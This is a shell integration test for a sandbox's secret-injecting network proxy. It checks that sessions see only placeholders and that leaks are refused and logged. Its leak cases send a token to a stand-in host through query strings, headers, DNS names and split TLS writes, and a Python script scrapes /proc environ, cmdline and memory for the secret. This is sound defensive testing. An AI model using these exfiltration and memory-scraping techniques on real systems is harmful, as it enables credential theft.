# Secrets held by the proxy (docs/network.md, "Secrets"): the test's own
# resolver and HTTPS server (a test CA; it prints the Authorization header
# it receives) in a network namespace of its own, reached over a veth pair;
# embedded sessions with --secret. The server must see the real value, the
# session only the placeholder; the placeholder sent anywhere else is
# refused and recorded with the secret's name, never its value.
. "$(dirname "$0")/../lib.sh"

need_root_cgroup2 secrets "network namespaces and the BPF redirect"
daemon_scratch secrets-test
. "$ROOT/tests/host/netfix.sh"
cleanup_extra() { netfix_down; }
chmod 755 "$TMPD"
# The upstream's CA (ca.crt): bpfbox verifies the server with it
# (BPFBOX_UPSTREAM_CA); the session never sees it (it trusts the session CA
# only for api.test).
netfix_up sec 203.0.113 80 443 api.test,other.test api.test=203.0.113.2 other.test=203.0.113.2
cd "$WS" || exit 1

TOKEN="tok-$$-the-real-value"
export TOKEN
RULES="--net-allow api.test:443 --net-allow other.test:443 --net-allow other.test:80"
# box AUDIT ARGS... -- CMD: one embedded session against the test resolver.
# Its time is printed: a.jsonl's took 15 s alone in the VM's egress boot and
# 31 s beside another boot in the CI, hence the 120 s bound.
box() {
	audit=$1
	shift
	_b0=$(date +%s%N)
	BPFBOX_UPSTREAM_CA="${UPCA:-$TMPD/ca.crt}" "$BPFBOX" run --no-daemon --audit "$audit" -w "$WS" \
		--net-resolver $SRV --timeout 120 $RULES "$@"
	_brc=$?
	echo "# box $(basename "$audit"): $((($(date +%s%N) - _b0) / 1000000)) ms" >&3
	return $_brc
}
exec 3>&1
# never_value FILE WHAT: the real value is nowhere in FILE.
never_value() {
	if grep -qF "$TOKEN" "$1"; then
		fail "secrets: the real value is in $2"
	else
		ok "secrets: the real value is not in $2"
	fi
}

t0=$(date +%s%N)
# 1. curl through HTTPS_PROXY (CONNECT) and without it (the SNI), python
#    urllib (SSL_CERT_FILE); then every environ of the session.
cat >"$WS/inside.sh" <<'EOF'
curl -sS --max-time 10 -H "Authorization: Bearer $TOKEN" https://api.test/one
env -u HTTPS_PROXY -u https_proxy curl -sS --max-time 10 -H "X-Key: $TOKEN" \
	-H "Authorization: token $TOKEN" https://api.test/two
python3 -c 'import os, urllib.request as u
r = u.Request("https://api.test/three", headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
print(u.urlopen(r, timeout=10).read().decode().strip(), "(python)")'
git -c http.extraHeader="Authorization: Bearer git-$TOKEN" ls-remote https://api.test/repo.git \
	>/dev/null 2>"$PWD/git.err"
command -v node >/dev/null && node -e 'require("https").get("https://api.test/four",
	{headers: {authorization: "Bearer " + process.env.TOKEN}},
	(r) => r.on("data", (d) => process.stdout.write(d.toString().trim() + " (node)\n")))'
sleep 30 &
# Once it runs sleep: a process in the middle of its exec has no environ to read.
i=0
while [ "$(cat /proc/$!/comm 2>/dev/null)" != sleep ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
for f in /proc/[0-9]*/environ; do tr '\0' '\n' <"$f"; done >"$PWD/environs"
kill $!
EOF
A="$TMPD/a.jsonl"
box "$A" --secret TOKEN@api.test -- sh inside.sh >"$TMPD/out" 2>"$TMPD/err"
expect_grep 'hello from api.test' "$TMPD/out" "secrets: curl reaches the secret's host through the terminating proxy"
expect_grep "auth api.test Bearer $TOKEN" "$TMPD/srv.log" "secrets: the server received the real value in Authorization (curl, CONNECT)"
expect_grep "auth api.test token $TOKEN" "$TMPD/srv.log" "secrets: the server received the real value without HTTP_PROXY (SNI)"
expect_grep 'hello from api.test \(python\)' "$TMPD/out" "secrets: python urllib trusts the session CA (SSL_CERT_FILE)"
# git's own words when the server saw nothing of it (once, in a loaded TCG guest).
grep -q "auth api.test Bearer git-$TOKEN" "$TMPD/srv.log" ||
	echo "# git: $(tr '\n' '|' <"$WS/git.err" 2>/dev/null | head -c 400)"
expect_grep "auth api.test Bearer git-$TOKEN" "$TMPD/srv.log" \
	"secrets: git over https trusts the session CA (GIT_SSL_CAINFO) and the server received the real value"
if command -v node >/dev/null; then
	expect_grep 'hello from api.test \(node\)' "$TMPD/out" "secrets: node https trusts the session CA (NODE_EXTRA_CA_CERTS)"
else
	skip "secrets: node is missing (make deps installs it)"
fi
n=$(grep -c "^TOKEN=bpfbox-secret-TOKEN-[0-9a-f]\{32\}$" "$WS/environs")
if [ "${n:-0}" -ge 2 ]; then
	ok "secrets: $n environs of the session hold the placeholder"
else
	fail "secrets: the placeholder is in $n environs: $(grep TOKEN "$WS/environs" | head -3)"
fi
never_value "$WS/environs" "any /proc/PID/environ of the session"
never_value "$A" "the audit stream"
never_value "$TMPD/err" "bpfbox's messages"
check_events "$A" "sum(1 for e in net if e['type'] == 'net.allow' and e['name'] == 'api.test' and e['port'] == 443 and 'secrets injected: TOKEN' in e['reason'] and e['bytes_in'] > 0) >= 3" \
	"secrets: each terminated connection is a net.allow naming the secret injected"
grep -h SSL_CERT_FILE= "$WS/environs" | head -1 >"$TMPD/certvar"
expect_grep '\.bpfbox-ca-bundle\.crt$' "$TMPD/certvar" "secrets: SSL_CERT_FILE is the session's bundle"

# 1b. Every route into a process of the session, not only environ: each
#     /proc/PID/cmdline, and the memory of each process the session may
#     read (/proc/PID/mem over its writable and anonymous mappings: heap,
#     stacks, the environ block). The init, forked from bpfbox run while it
#     held the value, is the one that could carry it: it is not dumpable,
#     so its memory must be refused, never read. Control: the scanner reads
#     its own memory and finds the placeholder there.
cat >"$WS/scan.py" <<'EOF'
import os
out = open("memdump", "wb")
seen = []
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    try:
        out.write(open("/proc/%d/cmdline" % pid, "rb").read() + b"\n")
        maps = open("/proc/%d/maps" % pid).read().splitlines()
        mem = open("/proc/%d/mem" % pid, "rb", 0)
    except OSError as e:
        seen.append("%d:%s" % (pid, e.errno))
        continue
    n = 0
    for m in maps:
        f = m.split()
        if "r" not in f[1] or (len(f) > 5 and not f[5].startswith("[") and "w" not in f[1]):
            continue
        if len(f) > 5 and f[5] in ("[vvar]", "[vsyscall]", "[vvar_vclock]"):
            continue
        a, b = (int(x, 16) for x in f[0].split("-"))
        try:
            mem.seek(a)
            out.write(mem.read(b - a))
            n += 1
        except OSError:
            pass
    seen.append("%d:read %d" % (pid, n))
print("scanned", " ".join(seen))
EOF
box "$TMPD/m.jsonl" --secret TOKEN@api.test -- python3 scan.py >"$TMPD/out" 2>"$TMPD/err"
if grep -q ':read [1-9]' "$TMPD/out" && grep -qa 'bpfbox-secret-TOKEN-' "$WS/memdump"; then
	ok "secrets: the memory scan reads the session's memory and finds the placeholder (control)"
else
	fail "secrets: the memory scan read nothing: $(head -c 300 "$TMPD/out") $(head -c 200 "$TMPD/err")"
fi
if grep -qaF "$TOKEN" "$WS/memdump"; then
	fail "secrets: the real value is in the memory or a cmdline of a session process ($(cat "$TMPD/out"))"
else
	ok "secrets: the real value is in no /proc/PID/cmdline or readable /proc/PID/mem of the session ($(sed 's/^scanned //' "$TMPD/out"))"
fi
if grep -q '^scanned 1:read' "$TMPD/out"; then
	fail "secrets: the session's init (forked while bpfbox held the value) has readable memory"
else
	ok "secrets: the session's init has no memory the session may read"
fi
rm -f "$WS/memdump"

# 2. The placeholder elsewhere: plain HTTP to another allowed host, a
#    CONNECT name, a DNS name. Each refused, each a net.deny naming TOKEN.
cat >"$WS/leak.sh" <<'EOF'
curl -sS --max-time 10 "http://other.test/?k=$TOKEN"; echo "proxied rc=$?"
env -u HTTP_PROXY -u http_proxy curl -sS --max-time 10 -H "X-K: $TOKEN" http://other.test/
curl -sS --max-time 10 "https://$TOKEN.other.test/"; echo "connect rc=$?"
env -u HTTPS_PROXY -u https_proxy getent hosts "x.$TOKEN.other.test"; echo "dns rc=$?"
curl -sS --max-time 10 https://other.test/ --cacert /dev/null -k -o /dev/null -w 'control %{http_code}\n'
curl -sS --max-time 10 -H 'Host: other.test' https://api.test/; echo "fronted rc=$?"
curl -sS --max-time 10 --cacert /etc/ssl/certs/ca-certificates.crt https://api.test/; echo "pinned rc=$?"
EOF
B="$TMPD/b.jsonl"
box "$B" --secret TOKEN@api.test -- sh leak.sh >"$TMPD/out" 2>"$TMPD/err"
expect_grep 'control 200' "$TMPD/out" "secrets: another allowed host is reached (control)"
if grep -q 'hello from other.test' "$TMPD/out" || grep -q 'auth other.test' "$TMPD/srv.log"; then
	fail "secrets: the placeholder reached other.test"
else
	ok "secrets: no request with the placeholder reached other.test"
fi
for how in "a proxy request" "a plain HTTP request" "the name"; do
	check_events "$B" "any(e['type'] == 'net.deny' and 'placeholder of secret TOKEN' in e['reason'] and '$how' in e['reason'] for e in net)" \
		"secrets: the placeholder in $how is a net.deny naming the secret"
done
check_events "$B" "any(e['type'] == 'net.deny' and e['protocol'] == 'dns' and 'secret TOKEN' in e['reason'] for e in net)" \
	"secrets: the placeholder in a DNS name is refused by the resolver"
check_events "$B" "any(e['type'] == 'net.deny' and e['protocol'] == 'proxy' and 'secret TOKEN' in e['reason'] for e in net)" \
	"secrets: the placeholder in a CONNECT name is refused by the proxy"
expect_grep 'denied \(a request for another host on this connection\)' "$TMPD/out" \
	"secrets: a terminated connection refuses a request for another host (403)"
if grep -q '^pinned rc=0' "$TMPD/out"; then
	fail "secrets: a client that trusts only the system bundle reached the secret's host"
else
	ok "secrets: a client that trusts only the system bundle fails closed"
fi
check_events "$B" "any(e['type'] == 'net.deny' and e['name'] == 'api.test' and 'refused the session CA' in e['reason'] for e in net)" \
	"secrets: the refused session CA is a net.deny"
never_value "$B" "the leak session's audit stream"

# 2a. The placeholder cut in two: a body sent in two writes (two reads of
#     plain HTTP, two TLS records of a terminated connection) to another
#     host. The proxy keeps each flow's last bytes and finds it across the
#     cut: a 403, a net.deny, and the server got only the bytes before the
#     cut. Without that it got the whole placeholder (a 200, and "post
#     other.test /cut N placeholder" in its log).
cat >"$WS/cut.py" <<'EOF'
import os, socket, ssl, sys, time
tok = os.environ["TOKEN"].encode()
body = b"k=" + tok
cut = 2 + len(tok) - 12
for name, tls in (("plain", False), ("tls", True)):
    s = socket.create_connection(("other.test", 443 if tls else 80), timeout=10)
    if tls:
        s = ssl.create_default_context().wrap_socket(s, server_hostname="other.test")
    s.sendall(b"POST /cut HTTP/1.1\r\nHost: other.test\r\nContent-Length: %d\r\n\r\n" % len(body)
              + body[:cut])
    time.sleep(0.3)
    try:
        s.sendall(body[cut:])
        got = s.recv(200).split(b"\r\n")[0].decode(errors="replace")
    except OSError as e:
        got = "error " + type(e).__name__
    print("%s-cut %s" % (name, got))
EOF
export OTHER="other-$$-value"
box "$TMPD/cut.jsonl" --secret TOKEN@api.test --secret OTHER@other.test -- /usr/bin/python3 -I cut.py \
	>"$TMPD/out" 2>"$TMPD/err"
unset OTHER
expect_grep '^plain-cut HTTP/1.1 403' "$TMPD/out" \
	"secrets: the placeholder cut between two reads of a plain HTTP body is refused (403)"
expect_grep '^tls-cut HTTP/1.1 403' "$TMPD/out" \
	"secrets: the placeholder cut between two TLS records to another terminated host is refused (403)" ||
	echo "# cut.py: $(tail -c 300 "$TMPD/err")"
check_events "$TMPD/cut.jsonl" "sum(1 for e in net if e['type'] == 'net.deny' and 'placeholder of secret TOKEN' in e['reason']) >= 2" \
	"secrets: each cut placeholder is a net.deny naming the secret"
if grep -q '^post other.test /cut .*placeholder' "$TMPD/srv.log"; then
	fail "secrets: a cut placeholder reached the server: $(grep '^post' "$TMPD/srv.log" | head -2)"
else
	ok "secrets: no cut placeholder reached the server whole (the bytes before the cut may have)"
fi

# 2b. "+query": the value replaces the placeholder in the request's query
#     too, URL-encoded; a secret without it stays a placeholder there.
QV='q v&1/=x'
export QV
box "$TMPD/q.jsonl" --secret 'QV@api.test+query' --secret TOKEN@api.test -- sh -c \
	'curl -sS --max-time 10 "https://api.test/q?key=$QV&t=$TOKEN"' >"$TMPD/out" 2>"$TMPD/err"
expect_grep "^query api.test key=q%20v%261%2F%3Dx&t=bpfbox-secret-TOKEN-[0-9a-f]{32}$" "$TMPD/srv.log" \
	"secrets: a +query secret is replaced in the query, URL-encoded; another stays its placeholder"
never_value "$TMPD/q.jsonl" "the +query session's audit stream"

# 3. Through a daemon: it holds the value and the CA; the client writes
#    the bundle. Its stream and its messages never hold the value.
K="$TMPD/k.jsonl"
export BPFBOX_UPSTREAM_CA="$TMPD/ca.crt"
if start_daemon "$K" --group nogroup; then
	unset BPFBOX_UPSTREAM_CA
	"$BPFBOX" run --daemon-socket "$SOCK" -w "$WS" --net-resolver $SRV --timeout 60 $RULES \
		--secret TOKEN@api.test --secret 'QV@api.test+query' -- sh -c 'curl -sS --max-time 10 \
		-H "Authorization: daemon $TOKEN" "https://api.test/d?qv=$QV"; echo; env | grep ^TOKEN=' \
		>"$TMPD/out" 2>"$TMPD/err"
	expect_grep "auth api.test daemon $TOKEN" "$TMPD/srv.log" "secrets: through a daemon, the server received the real value"
	expect_grep '^TOKEN=bpfbox-secret-TOKEN-[0-9a-f]{32}$' "$TMPD/out" "secrets: through a daemon, the session holds the placeholder"
	expect_grep "^query api.test qv=q%20v%261%2F%3Dx$" "$TMPD/srv.log" \
		"secrets: through a daemon, a +query secret is replaced in the query"
	check_events "$K" "any(e['type'] == 'net.allow' and e['name'] == 'api.test' and 'secrets injected: QV,TOKEN' in e['reason'] for e in net)" \
		"secrets: the daemon's stream has the terminated connection"
	never_value "$TMPD/out" "the daemon session's output"
	never_value "$K" "the daemon's stream"
	never_value "$DERR" "the daemon's messages"
else
	unset BPFBOX_UPSTREAM_CA
	fail "secrets: the daemon did not start: $(tail -c 300 "$DERR")"
fi

expect_schema "secrets: the streams validate against the schema" "$A" "$B" "$K"

# 4. Bad input: one line, exit 125, nothing ran.
printf 'file-value\n' >"$TMPD/k"
# A secret named like a variable the environment passes (env_pass.h): the
# placeholder, never the caller's value.
# bpfbox verifies the server with another CA: the request never leaves.
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$TMPD/other.key" -out "$TMPD/other-ca.crt" \
	-days 1 -subj /CN=another-ca 2>/dev/null
UPCA="$TMPD/other-ca.crt" PIP_INDEX_URL="https://x.test/$TOKEN/simple" box "$TMPD/c.jsonl" \
	--secret PIP_INDEX_URL@api.test --secret 'K=file:'"$TMPD"'/k@api.test' -- \
	sh -c 'echo "$K"; env | grep ^PIP_INDEX_URL=; curl -sS --max-time 10 -H "X-K: $K" https://api.test/k' \
	>"$TMPD/out" 2>"$TMPD/err"
expect_grep '^bpfbox-secret-K-[0-9a-f]{32}$' "$TMPD/out" "secrets: NAME=file:PATH gives the session a placeholder"
expect_grep '^PIP_INDEX_URL=bpfbox-secret-PIP_INDEX_URL-[0-9a-f]{32}$' "$TMPD/out" \
	"secrets: a passed variable given as a secret is its placeholder"
never_value "$TMPD/out" "a file secret's session"
check_events "$TMPD/c.jsonl" "any(e['type'] == 'net.deny' and e['name'] == 'api.test' and e['reason'].startswith('upstream TLS') for e in net)" \
	"secrets: a server that fails verification is a net.deny"
expect_grep "^bpfbox: api.test's server could not be verified \(upstream TLS: .*\); nothing was sent to it" \
	"$TMPD/out" "secrets: the tool gets a 502 naming why the server was not verified"
if grep -q 'auth api.test.*file-value' "$TMPD/srv.log" || grep -q 'hello from api.test' "$TMPD/out"; then
	fail "secrets: a request went to a server that failed verification"
else
	ok "secrets: nothing reaches a server that fails verification"
fi
if grep -q file-value "$TMPD/out"; then
	fail "secrets: a file secret's value reached the session"
else
	ok "secrets: a file secret's value is not in the session"
fi
unset NOPE
expect_err 125 "secrets: an unset variable is refused" 'the variable NOPE is not set' \
	box "$TMPD/d.jsonl" --secret NOPE@api.test -- true
expect_err 125 "secrets: a host outside --net-allow is refused" 'not allowed on port 443' \
	box "$TMPD/d.jsonl" --secret TOKEN@elsewhere.test -- true
expect_err 125 "secrets: an unreadable file is refused" 'cannot read /nonexistent' \
	box "$TMPD/d.jsonl" --secret 'K=file:/nonexistent@api.test' -- true
echo "# test_secrets: $((($(date +%s%N) - t0) / 1000000)) ms of sessions"
finish
